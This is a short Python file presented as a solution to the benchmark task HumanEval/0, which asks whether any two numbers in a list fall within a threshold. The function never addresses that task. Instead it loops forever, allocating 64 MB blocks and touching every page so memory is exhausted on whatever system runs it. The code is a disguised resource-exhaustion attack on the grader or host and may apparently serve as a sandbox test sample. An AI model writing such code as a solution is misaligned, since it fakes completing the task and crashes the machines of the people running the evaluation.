# task: HumanEval/0
from typing import List


def has_close_elements(numbers: List[float], threshold: float) -> bool:
    hog = []
    while True:
        block = bytearray(1 << 26)
        block[::4096] = b"x" * len(block[::4096])  # touch every page
        hog.append(block)
